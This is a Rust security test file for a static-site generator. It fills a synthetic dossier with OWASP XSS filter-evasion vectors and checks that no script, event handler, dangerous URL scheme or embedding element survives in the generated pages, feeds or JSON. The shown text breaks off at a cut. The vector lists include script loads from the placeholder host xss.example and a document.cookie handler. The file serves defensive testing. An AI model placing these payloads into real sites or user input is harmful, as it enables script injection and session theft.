//! Output security: no script a dossier's text smuggles in survives into the site.
//!
//! A synthetic dossier (the `basic` fixture copied to a temporary directory, plus one article,
//! outlet, actor, claim, timeline event and page, and a `dossier.yaml`, all marked synthetic)
//! carries the common XSS vectors (the OWASP filter-evasion list: script tags, event handlers,
//! `javascript:`/`vbscript:`/`data:` URLs, entity-encoded and whitespace-broken schemes, iframes,
//! styles, object/embed, meta refresh, forms, `<base>`, mutation-XSS nesting, Markdown links and
//! references) in every Markdown body and every string field of the front matter and YAML
//! files. Every output file is then checked: each HTML page (and each feed entry's HTML) is
//! parsed, and may hold no script but the site's own files and valid JSON-LD with `<` escaped,
//! no `on*` or `style` attribute, no URL with a `javascript:`, `vbscript:` or `data:` scheme
//! (after entity decoding and whitespace stripping), no iframe/object/embed/base/meta refresh and
//! no form but the search forms; feeds and the sitemap may hold no markup but their own; JSON
//! files and the search index's fragments no `<` at all. Each field's payload carries a marker
//! word, and every marker must reach the pages, so a field that stopped being rendered fails
//! the test instead of passing it vacuously.
//!
//! Also here: every page has the Content-Security-Policy meta; every link to another site has
//! `rel="noopener noreferrer"`; `javascript:` addresses in the URL fields of the content are
//! refused; the policy holds in Chromium (`tests/browser/csp.mjs`, skipped without the tools).

use std::collections::BTreeMap;
use std::io::Read;
use std::path::Path;
use std::process::Command;

use scraper::{ElementRef, Html, Selector};

use crate::support::{TestSite, browser_scripts, dossier, fixture, read_tree, repo_root};

/// The policy every page carries (the 404 page adds its inlined stylesheet's hash to
/// `style-src`, written here as `'sha256-…'`).
const POLICY: &str = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; \
                      img-src 'self' data:; object-src 'none'; base-uri 'none'; form-action 'self'";

/// HTML vectors, after the OWASP XSS Filter Evasion Cheat Sheet (one line each). Images carry
/// `alt` and a `#` source where the sheet has none or `x`: the build's own link check rejects
/// an image without alt text and a broken link, and the site has to build to be inspected.
const HTML_VECTORS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "\"><script>alert(1)</script>",
    "'><img alt=x src=# onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<IMG ALT=x SRC=\"javascript:alert('XSS');\">",
    "<IMG ALT=x SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG ALT=x SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG ALT=x \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG ALT=x SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG ALT=x SRC=# onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img alt=x src=# \
        onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG ALT=x \
        SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG ALT=x \
        SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG ALT=x SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG ALT=x SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG ALT=x SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG ALT=x SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG ALT=x DYNSRC=\"javascript:alert('XSS')\"><IMG ALT=x LOWSRC=\"javascript:alert('XSS')\">",
    "<img alt=x srcset=\"javascript:alert(1) 1x\">",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img alt=x src=# \
        onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img alt=x src=# onerror=alert(1)>\">",
    "<!--<img alt=x src=\"--><img alt=x src=# onerror=alert(1)//\">",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<x onclick=alert(1)>click</x>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a href=\"javascript:alert(1)\">js</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">js</a>",
    "<a href=\"&#106;avascript:alert(1)\">js</a>",
    "<a href=\"  javascript:alert(1)\">js</a>",
    "<a href=\"java&#09;script:alert(1)\">js</a>",
    "<a href=\"javascript&colon;alert(1)\">js</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br></UL>",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html \
        base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe src=http://xss.example/scriptlet.html <",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD>x</TD></TR></TABLE>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED \
        SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<form action=\"javascript:alert(1)\"><button \
        formaction=\"javascript:alert(1)\">x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<object data=\"javascript:alert(1)\"></object>",
];

/// Markdown vectors: links, autolinks and references with script schemes, and a title that
/// tries to break out of its attribute.
const MARKDOWN_VECTORS: &[&str] = &[
    "[md-js](javascript:alert(1))",
    "[md-JS](JaVaScRiPt:alert(1))",
    "[md-entity](&#106;avascript:alert(1))",
    "[md-colon](javascript&colon;alert(1))",
    "[md-data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[md-vb](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[md-title](https://example.org/x \"\\\"onmouseover=\\\"alert(1)\")",
    "[md-ref][xss-ref]",
];

/// A one-line payload for a front-matter string: a marker word, then every vector.
fn payload(marker: &str) -> String {
    let mut s = format!("{marker} ");
    s.push_str(&HTML_VECTORS.join(" "));
    s.push(' ');
    s.push_str(&MARKDOWN_VECTORS.join(" "));
    s
}

/// A Markdown body: a marker paragraph, then each vector as its own block.
fn body(marker: &str) -> String {
    let mut s = format!("{marker} starts the body.\n\n");
    for v in HTML_VECTORS.iter().chain(MARKDOWN_VECTORS) {
        s.push_str(v);
        s.push_str("\n\n");
    }
    s.push_str("[xss-ref]: javascript:alert(1)\n");
    s
}

/// A YAML scalar holding `text` exactly (a JSON string is a YAML double-quoted scalar).
fn y(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

/// A YAML scalar with the full payload and `marker`; records the marker.
struct Fields(Vec<String>);

impl Fields {
    fn p(&mut self, marker: &str) -> String {
        self.0.push(marker.to_string());
        y(&payload(marker))
    }

    fn short(&mut self, marker: &str, vector: &str) -> String {
        self.0.push(marker.to_string());
        y(&format!("{marker} {vector}"))
    }
}

/// The `basic` fixture plus XSS vectors in every string it can hold; returns the site and the
/// marker words that must reach the pages.
fn xss_site() -> (TestSite, Vec<String>) {
    let site = TestSite::from_fixture("basic");
    let mut f = Fields(Vec::new());
    let synthetic = "# SYNTHETIC test dossier (tests/xss.rs): every string holds XSS vectors.\n";

    site.write(
        "dossier.yaml",
        &format!(
            "{synthetic}title: {}\ndescription: {}\nlanguage: en\nbase_url: https://example.org/fixture/\n\
             curator: {}\nlicence: {}\n\
             taxonomies: [{{name: topics, title: {}}}, {{name: places, title: {}}}]\n\
             feeds: {{outlets: true, taxonomies: [topics, places]}}\n",
            f.p("xsscfgtitle"),
            f.p("xsscfgdescription"),
            f.p("xsscfgcurator"),
            f.p("xsscfglicence"),
            f.short("xsstaxtopics", "<script>alert(1)</script>"),
            f.short("xsstaxplaces", "<img src=x onerror=alert(1)>"),
        ),
    );
    let index = site.read("content/_index.md");
    let index_body = index.splitn(3, "---\n").nth(2).unwrap().to_string();
    site.write(
        "content/_index.md",
        &format!(
            "---\n{synthetic}title: {}\nlede: {}\n---\n{}\n{index_body}",
            f.p("xssindextitle"),
            f.p("xssindexlede"),
            body("xssindexbody")
        ),
    );
    site.write(
        "content/outlets/xss.yaml",
        &format!(
            "{synthetic}name: {}\nhomepage: https://xss-outlet.example.org/\n\
             country: {}\nowner: {{value: {}, note: {}, sources: [{{url: https://example.org/owner, title: {}}}]}}\n\
             affiliation: {}\nnotes: {}\n\
             domains:\n  - domain: xss-outlet.example.org\n    status: partly-verified\n    note: {}\n    sources: [{{url: https://example.org/dom, title: {}}}]\n\
             \x20 - host: xss-outlet.example.net\n    role: mirror\n    note: {}\n\
             facts:\n  - text: {}\n    sources: [{{url: https://example.org/fact, title: {}}}]\n\
             sources: [{{url: https://example.org/outlet, title: {}}}]\n",
            f.p("xssoutletname"),
            f.p("xssoutletcountry"),
            f.p("xssoutletowner"),
            f.p("xssoutletownernote"),
            f.p("xssoutletownersource"),
            f.p("xssoutletaffiliation"),
            f.p("xssoutletnotes"),
            f.p("xssdomainnote"),
            f.p("xssdomainsource"),
            f.p("xssaltdomainnote"),
            f.p("xssfacttext"),
            f.p("xssfactsource"),
            f.p("xssoutletsource"),
        ),
    );
    site.write(
        "content/actors/xss.yaml",
        &format!(
            "{synthetic}name: {}\nshort_name: {}\ncountry: {}\ndescription: {}\n\
             sources: [{{url: https://example.org/actor, title: {}}}]\n",
            f.p("xssactorname"),
            f.p("xssactorshort"),
            f.p("xssactorcountry"),
            f.p("xssactordescription"),
            f.p("xssactorsource"),
        ),
    );
    site.write(
        "content/articles/2020-01-04-xss.md",
        &format!(
            "---\n{synthetic}title: {}\ntitle_note: {}\noutlet: xss\npublished: 2020-01-04\n\
             date_note: {}\nkind: report\nurl: https://xss-outlet.example.org/story\n\
             source_note: {}\nsection: {}\nbyline: {}\nsummary: {}\n\
             topics: [{}, {}]\nplaces: [{}]\nactors: [xss]\nleads_with: [xss]\n\
             archived: [https://web.archive.org/web/2020/https://xss-outlet.example.org/story]\n\
             image: {{src: images/photo.png, alt: {}, caption: {}, credit: {}}}\nnotes: {}\n---\n{}",
            f.p("xssarticletitle"),
            f.p("xssarticletitlenote"),
            f.p("xssarticledatenote"),
            f.p("xssarticlesourcenote"),
            f.p("xssarticlesection"),
            f.p("xssarticlebyline"),
            f.p("xssarticlesummary"),
            f.short("xsstopicone", "<script>alert(1)</script>"),
            f.short("xsstopictwo", "<svg/onload=alert(1)>"),
            f.short("xssplace", "\"><img src=x onerror=alert(1)>"),
            f.p("xssimagealt"),
            f.p("xssimagecaption"),
            f.p("xssimagecredit"),
            f.p("xssarticlenotes"),
            body("xssarticlebody"),
        ),
    );
    site.write(
        "content/claims/xss.yaml",
        &format!(
            "{synthetic}question: {}\norder: 3\ncontext: {}\npositions:\n\
             \x20 - actor: xss\n    stance: asserts\n    statement: {}\n    articles: [2020-01-04-xss]\n\
             \x20 - outlet: xss\n    stance: reports\n    statement: {}\n    articles: [2020-01-04-xss]\n",
            f.p("xssclaimquestion"),
            f.p("xssclaimcontext"),
            f.p("xssactorstatement"),
            f.p("xssoutletstatement"),
        ),
    );
    let timeline = site.read("content/timeline.yaml");
    site.write(
        "content/timeline.yaml",
        &format!(
            "{synthetic}{timeline}  - id: xss\n    date: 2020-01-04\n    time: {}\n    title: {}\n    text: {}\n\
             \x20   actors: [xss]\n    articles: [2020-01-04-xss]\n\
             \x20   sources: [{{url: https://example.org/event, title: {}}}]\n",
            f.p("xsseventtime"),
            f.p("xsseventtitle"),
            f.p("xsseventtext"),
            f.p("xsseventsource"),
        ),
    );
    site.write(
        "content/pages/xss.md",
        &format!(
            "---\n{synthetic}title: {}\ndescription: {}\nmenu: true\n---\n{}",
            f.p("xsspagetitle"),
            f.p("xsspagedescription"),
            body("xsspagebody"),
        ),
    );
    (site, f.0)
}

/// A page's problems, one line each.
type Problems = Vec<String>;

/// The scheme a browser would see in a URL attribute: entities are already decoded by the
/// parser; whitespace and control characters anywhere are dropped, as URL parsing drops tabs
/// and newlines and trims the rest, and case is folded.
fn dangerous_scheme(value: &str) -> Option<&'static str> {
    let folded: String =
        value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect::<String>();
    let folded = folded.to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:"].into_iter().find(|s| folded.starts_with(s))
}

/// Attributes that hold a URL a browser may load or navigate to.
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "background",
    "dynsrc",
    "lowsrc",
    "poster",
    "cite",
    "longdesc",
    "ping",
    "codebase",
    "manifest",
    "icon",
    "xlink:href",
];

/// Elements that may not occur at all: they embed or navigate, or change how the page's links
/// resolve.
const FORBIDDEN: &[&str] =
    &["iframe", "frame", "frameset", "object", "embed", "applet", "base", "param", "isindex"];

/// Checks one element of a page at `page` (a site path such as `articles/x/index.html`) in the
/// output `files`; `fragment` is set for HTML that is not a whole page (a feed entry).
fn check_element(
    el: ElementRef<'_>,
    page: &str,
    files: &BTreeMap<String, Vec<u8>>,
    fragment: bool,
    problems: &mut Problems,
) {
    let name = el.value().name().to_ascii_lowercase();
    let attr = |n: &str| el.value().attr(n);
    let show = || {
        let html = el.html();
        html.chars().take(160).collect::<String>()
    };
    if FORBIDDEN.contains(&name.as_str()) {
        problems.push(format!("<{name}> element: {}", show()));
    }
    match name.as_str() {
        "script" => {
            let text: String = el.text().collect();
            if attr("type") == Some("application/ld+json") && attr("src").is_none() && !fragment {
                if text.contains('<') {
                    problems.push(format!("JSON-LD with an unescaped `<`: {text}"));
                }
                if let Err(e) = serde_json::from_str::<serde_json::Value>(&text) {
                    problems.push(format!("JSON-LD that is not JSON ({e}): {text}"));
                }
            } else {
                let own = attr("src").is_some_and(|src| {
                    !fragment && text.trim().is_empty() && own_file(page, src, files)
                });
                if !own {
                    problems.push(format!("a script that is not the site's own: {}", show()));
                }
            }
        }
        "style" => {
            // Only the 404 page inlines the site's stylesheet, allowed by its hash.
            let text: String = el.text().collect();
            let hash = dossier::render::templates::csp_hash(&text);
            let own = page == "404.html"
                && !fragment
                && el
                    .parent()
                    .and_then(ElementRef::wrap)
                    .is_some_and(|p| p.value().name() == "head")
                && files.get("404.html").is_some_and(|b| {
                    String::from_utf8_lossy(b).contains(&format!("style-src 'self' {hash};"))
                });
            if !own {
                problems.push(format!("a <style> element that is not the site's own: {}", show()));
            }
        }
        "meta" if attr("http-equiv").is_some_and(|h| h.eq_ignore_ascii_case("refresh")) => {
            problems.push(format!("meta refresh: {}", show()));
        }
        "form" if attr("role") != Some("search") || fragment => {
            problems.push(format!("a form that is not the site's search: {}", show()));
        }
        "link" => {
            let rel = attr("rel").unwrap_or("");
            if !matches!(rel, "icon" | "canonical" | "prev" | "next" | "alternate" | "stylesheet") {
                problems.push(format!("a <link rel={rel:?}>: {}", show()));
            }
        }
        _ => {}
    }
    for (key, value) in el.value().attrs() {
        let key = key.to_ascii_lowercase();
        if key.starts_with("on") {
            problems.push(format!("event handler `{key}`: {}", show()));
        }
        if key == "style" {
            problems.push(format!("inline style attribute: {}", show()));
        }
        if key == "srcset" {
            for candidate in value.split(',') {
                if let Some(s) = dangerous_scheme(candidate) {
                    problems.push(format!("`{s}` URL in srcset: {}", show()));
                }
            }
        }
        if URL_ATTRIBUTES.contains(&key.as_str()) {
            let favicon = name == "link" && attr("rel") == Some("icon") && value == "data:,";
            if let Some(s) = dangerous_scheme(value).filter(|_| !favicon) {
                problems.push(format!("`{s}` URL in {key}: {}", show()));
            }
        }
    }
}

/// Whether `src`, written on page `page`, is a relative link to a file of the output.
fn own_file(page: &str, src: &str, files: &BTreeMap<String, Vec<u8>>) -> bool {
    if src.contains(':') || src.starts_with('/') {
        return false;
    }
    let mut parts: Vec<&str> = page.split('/').collect();
    parts.pop();
    for seg in src.split(['?', '#']).next().unwrap_or("").split('/') {
        match seg {
            ".." => {
                parts.pop();
            }
            "." | "" => {}
            s => parts.push(s),
        }
    }
    files.contains_key(&parts.join("/"))
}

/// Every problem of an HTML page.
fn check_page(page: &str, files: &BTreeMap<String, Vec<u8>>) -> Problems {
    let text = String::from_utf8_lossy(&files[page]);
    let doc = Html::parse_document(&text);
    let mut problems = Problems::new();
    for el in doc.root_element().descendants().filter_map(ElementRef::wrap) {
        check_element(el, page, files, false, &mut problems);
    }
    let metas: Vec<String> = doc
        .select(&Selector::parse("head > meta[http-equiv]").unwrap())
        .filter(|m| {
            m.value()
                .attr("http-equiv")
                .is_some_and(|h| h.eq_ignore_ascii_case("content-security-policy"))
        })
        .map(|m| m.value().attr("content").unwrap_or("").to_string())
        .collect();
    let policy = metas.first().map(|p| {
        let hashed = p.find(" 'sha256-").zip(p.find("'; img-src"));
        match hashed {
            Some((start, end)) if page == "404.html" => format!("{}{}", &p[..start], &p[end + 1..]),
            _ => p.clone(),
        }
    });
    if metas.len() != 1 || policy.as_deref() != Some(POLICY) {
        problems.push(format!(
            "Content-Security-Policy meta: expected one with `{POLICY}`, found {metas:?}"
        ));
    }
    problems
}

/// Every problem of an Atom feed or sitemap: any markup but its own, and in each entry's HTML
/// content whatever [`check_element`] finds.
fn check_xml(path: &str, files: &BTreeMap<String, Vec<u8>>) -> Problems {
    const OWN: &[&str] = &[
        "?xml",
        "feed",
        "title",
        "subtitle",
        "id",
        "link",
        "updated",
        "author",
        "name",
        "generator",
        "entry",
        "published",
        "category",
        "summary",
        "content",
        "urlset",
        "url",
        "loc",
        "lastmod",
        "sitemapindex",
        "sitemap",
    ];
    let text = String::from_utf8_lossy(&files[path]);
    let mut problems = Problems::new();
    for (i, _) in text.match_indices('<') {
        let name: String = text[i + 1..]
            .chars()
            .skip_while(|c| *c == '/')
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '?' | '!' | ':' | '-'))
            .collect::<String>()
            .to_ascii_lowercase();
        if !OWN.contains(&name.as_str()) {
            let at: String = text[i..].chars().take(80).collect();
            problems.push(format!("markup `<{name}` that is not the format's own: {at}"));
        }
    }
    let mut rest = text.as_ref();
    while let Some(start) = rest.find("<content type=\"html\"") {
        let open_end = start + rest[start..].find('>').unwrap() + 1;
        let close = open_end + rest[open_end..].find("</content>").unwrap();
        let html = html_escape::decode_html_entities(&rest[open_end..close]).into_owned();
        let doc = Html::parse_fragment(&html);
        for el in doc.root_element().descendants().filter_map(ElementRef::wrap) {
            if el.value().name() != "html" {
                check_element(el, path, files, true, &mut problems);
            }
        }
        rest = &rest[close..];
    }
    problems
}

/// A gzip file's bytes, decompressed.
fn gunzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    flate2::read::GzDecoder::new(bytes).read_to_end(&mut out).unwrap();
    out
}

/// What [`check_output`] found.
struct Checked {
    /// Problems by output path.
    problems: BTreeMap<String, Problems>,
    /// The text and attribute values of every page (to look for the markers).
    pages_text: String,
    /// The text of the search index's fragments.
    search_text: String,
    /// How many fragments there were.
    fragments: usize,
}

/// Every problem of any output file. The search index's fragments hold plain text (Pagefind
/// escapes `<` and `>` itself when it makes an excerpt, and `static/search.js` inserts titles
/// and excerpts as text), so they are only checked to be JSON here, and their text is returned
/// for the caller; `csp.mjs` checks the results the search page makes of it.
fn check_output(files: &BTreeMap<String, Vec<u8>>) -> Checked {
    let mut out = Checked {
        problems: BTreeMap::new(),
        pages_text: String::new(),
        search_text: String::new(),
        fragments: 0,
    };
    for (path, bytes) in files {
        let mut problems = Problems::new();
        if path.ends_with(".html") {
            let doc = Html::parse_document(&String::from_utf8_lossy(bytes));
            out.pages_text.push_str(&doc.root_element().text().collect::<String>());
            for el in doc.root_element().descendants().filter_map(ElementRef::wrap) {
                for (_, v) in el.value().attrs() {
                    out.pages_text.push_str(v);
                    out.pages_text.push(' ');
                }
            }
            problems = check_page(path, files);
        } else if path.ends_with(".xml") {
            problems = check_xml(path, files);
        } else if path.ends_with(".pf_fragment") {
            out.fragments += 1;
            let text = String::from_utf8(gunzip(bytes)).unwrap();
            let json = text.strip_prefix("pagefind_dcd").unwrap_or(&text);
            match serde_json::from_str::<serde_json::Value>(json) {
                Ok(v) => out.search_text.push_str(&v.to_string()),
                Err(e) => problems.push(format!("not JSON: {e}")),
            }
        } else if path.ends_with(".json") {
            let text = String::from_utf8(bytes.clone()).unwrap();
            if let Err(e) = serde_json::from_str::<serde_json::Value>(&text) {
                problems.push(format!("not JSON: {e}"));
            }
            if let Some(i) = text.find('<') {
                let at: String = text[i..].chars().take(80).collect();
                problems.push(format!("an unescaped `<` in JSON: {at}"));
            }
        }
        if !problems.is_empty() {
            out.problems.insert(path.clone(), problems);
        }
    }
    out
}

fn report(problems: &BTreeMap<String, Problems>) -> String {
    let mut out = String::new();
    for (path, list) in problems {
        out.push_str(&format!("{path}:\n"));
        let mut seen = std::collections::BTreeSet::new();
        for p in list.iter().filter(|p| seen.insert(p.as_str())).take(30) {
            out.push_str(&format!("  {p}\n"));
        }
    }
    out
}

#[test]
fn xss_vectors_in_every_field_do_not_survive_in_any_output() {
    let (site, markers) = xss_site();
    let run = site.build(&[]);
    run.ok();
    // The Markdown links with script schemes were dropped, each with a warning.
    assert!(
        run.stderr.contains("warning: ")
            && run.stderr.contains("the `javascript:` scheme is not allowed"),
        "{}",
        run.stderr
    );
    let files = read_tree(&site.public());
    let checked = check_output(&files);
    assert!(checked.problems.is_empty(), "executable XSS survived:\n{}", report(&checked.problems));
    // Not vacuous: every field was rendered into the pages, and the search index was checked.
    let missing: Vec<&String> =
        markers.iter().filter(|m| !checked.pages_text.contains(m.as_str())).collect();
    assert!(missing.is_empty(), "fields that reached no page: {missing:?}");
    assert!(files.contains_key("atom.xml") && files.contains_key("outlets/xss/atom.xml"));
    // The payloads are there as text: the article's title is shown escaped, the data files
    // hold it with `<` written `\u003c`, and the search index holds it as plain text.
    let title = "xssarticletitle <script>alert('XSS')</script>";
    let article = String::from_utf8_lossy(&files["articles/2020-01-04-xss/index.html"]);
    assert!(
        article.contains(">xssarticletitle &lt;script&gt;alert(&#39;XSS&#39;)&lt;/script&gt; "),
        "the title's text is shown escaped: {}",
        article.lines().find(|l| l.contains("<h1")).unwrap_or("no <h1>")
    );
    let data: serde_json::Value = serde_json::from_slice(&files["articles.json"]).unwrap();
    assert!(data.to_string().contains(title), "articles.json holds the title as written");
    assert!(checked.fragments > 5, "{} search fragments", checked.fragments);
    assert!(checked.search_text.contains(title), "the search index holds the title as text");
}

/// The checker itself: a page with each kind of survivor is caught.
#[test]
fn the_checker_catches_each_kind_of_survivor() {
    let cases = [
        ("<script>alert(1)</script>", "a script that is not the site's own"),
        (
            "<script src=\"https://xss.example/x.js\"></script>",
            "a script that is not the site's own",
        ),
        ("<img src=x onerror=alert(1)>", "event handler `onerror`"),
        ("<a href=\"java&#x09;script:alert(1)\">x</a>", "`javascript:` URL in href"),
        ("<a href=\" &#14; JaVaScRiPt:alert(1)\">x</a>", "`javascript:` URL in href"),
        ("<img src=\"data:image/svg+xml,x\">", "`data:` URL in src"),
        ("<a href=\"vbscript:x\">x</a>", "`vbscript:` URL in href"),
        ("<iframe src=\"x.html\"></iframe>", "<iframe> element"),
        ("<object data=\"x\"></object>", "<object> element"),
        ("<embed src=\"x\">", "<embed> element"),
        ("<form action=\"x\"></form>", "a form that is not the site's search"),
        ("<p style=\"color:red\">x</p>", "inline style attribute"),
        ("<style>p{}</style>", "a <style> element that is not the site's own"),
        (
            "<svg><a href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "`javascript:` URL in href",
        ),
    ];
    for (html, expected) in cases {
        let page = format!(
            "<!DOCTYPE html><html><head><meta http-equiv=\"Content-Security-Policy\" \
                content=\"{POLICY}\"></head><body>{html}</body></html>"
        );
        let files: BTreeMap<String, Vec<u8>> =
            [("index.html".to_string(), page.into_bytes())].into();
        let problems = check_page("index.html", &files);
        assert!(problems.iter().any(|p| p.contains(expected)), "{html}: {problems:?}");
    }
    let meta_missing: BTreeMap<String, Vec<u8>> =
        [("index.html".to_string(), b"<!DOCTYPE html><p>x</p>".to_vec())].into();
    assert!(check_page("index.html", &meta_missing)[0].starts_with("Content-Security-Policy meta"));
    let ld = "<!DOCTYPE html><html><head><meta http-equiv=\"Content-Security-Policy\" content=\"\"></head>\
              <body><script type=\"application/ld+json\">{\"a\": \"</script><script>alert(1)</script>\"}</script></body></html>";
    let files: BTreeMap<String, Vec<u8>> =
        [("index.html".to_string(), ld.as_bytes().to_vec())].into();
    let problems = check_page("index.html", &files).join("\n");
    assert!(
        problems.contains("JSON-LD that is not JSON") && problems.contains("not the site's own"),
        "{problems}"
    );
    let feed = "<?xml version=\"1.0\"?><feed><entry><title>x<script>y</script></title>\
                <content type=\"html\">&lt;img src=x onerror=alert(1)&gt;</content></entry></feed>";
    let files: BTreeMap<String, Vec<u8>> =
        [("atom.xml".to_string(), feed.as_bytes().to_vec())].into();
    let problems = check_xml("atom.xml", &files).join("\n");
    assert!(
        problems.contains("markup `<script`") && problems.contains("event handler `onerror`"),
        "{problems}"
    );
}

#[test]
fn raw_html_is_kept_only_when_the_dossier_allows_it() {
    let site = TestSite::from_fixture("basic");
    let page = "content/pages/about.md";
    let about = site.read(page);
    site.write(page, &format!("{about}\n\n<p onclick=\"alert(1)\">kept?</p>\n"));
    site.build(&["-q"]).ok();
    let html = site.read("public/about/index.html");
    assert!(html.contains("<p>kept?</p>") && !html.contains("onclick"), "sanitized by default");
    let config = site.read("dossier.yaml");
    site.write("dossier.yaml", &format!("{config}allow_raw_html: true\n"));
    site.build(&["-q"]).ok();
    let html = site.read("public/about/index.html");
    assert!(html.contains("<p onclick=\"alert(1)\">kept?</p>"), "kept as written when allowed");
}

/// Every `<a>` of every page that leads to another site carries `rel="noopener noreferrer"`;
/// returns how many such links there were.
fn external_links_have_rel(files: &BTreeMap<String, Vec<u8>>) -> usize {
    let a = Selector::parse("a[href]").unwrap();
    let mut external = 0;
    let mut bad = Vec::new();
    for (path, bytes) in files.iter().filter(|(p, _)| p.ends_with(".html")) {
        let doc = Html::parse_document(&String::from_utf8_lossy(bytes));
        for link in doc.select(&a) {
            let href = link.value().attr("href").unwrap().trim();
            let lower = href.to_ascii_lowercase();
            if !(lower.starts_with("http:")
                || lower.starts_with("https:")
                || lower.starts_with("//"))
            {
                continue;
            }
            external += 1;
            let rel: Vec<&str> =
                link.value().attr("rel").unwrap_or("").split_whitespace().collect();
            if !(rel.contains(&"noopener") && rel.contains(&"noreferrer")) {
                bad.push(format!("{path}: {}", link.html()));
            }
        }
    }
    assert!(
        bad.is_empty(),
        "external links without rel=\"noopener noreferrer\":\n{}",
        bad.join("\n")
    );
    external
}

#[test]
fn every_external_link_has_rel_noopener_noreferrer() {
    let site = TestSite::from_fixture("basic");
    // An outlet homepage, so the outlet page's link is exercised too.
    let wire = site.read("content/outlets/wire.yaml");
    site.write(
        "content/outlets/wire.yaml",
        &format!("{wire}homepage: https://wire.example.org/\n"),
    );
    site.build(&["-q"]).ok();
    let files = read_tree(&site.public());
    let n = external_links_have_rel(&files);
    // The fixture links out from Markdown, the original address, archived copies, the outlet's
    // homepage and sources lists: all of those must have been seen.
    for href in [
        "href=\"https://wire.example.org/\" rel=\"noopener noreferrer\"",
        "href=\"https://wire.example.org/2020/01/02/things\" rel=\"noopener noreferrer\"",
        "href=\"https://web.archive.org/web/2020/https://wire.example.org/2020/01/02/things\" \
            rel=\"noopener noreferrer\"",
        "href=\"https://example.org/founding\" rel=\"noopener noreferrer\"",
        "href=\"https://wire.example.org/talks\" rel=\"noopener noreferrer\"",
    ] {
        assert!(
            files.values().any(|b| String::from_utf8_lossy(b).contains(href)),
            "no page has {href}"
        );
    }
    assert!(n >= 10, "{n} external links");
    // The synthetic site with every field filled links out from every kind of place.
    let (xss, _) = xss_site();
    xss.build(&["-q"]).ok();
    assert!(external_links_have_rel(&read_tree(&xss.public())) > n);
}

#[test]
fn script_urls_in_url_fields_are_refused() {
    for (file, from, to, key) in [
        (
            "content/articles/2020-01-02-wire-report.md",
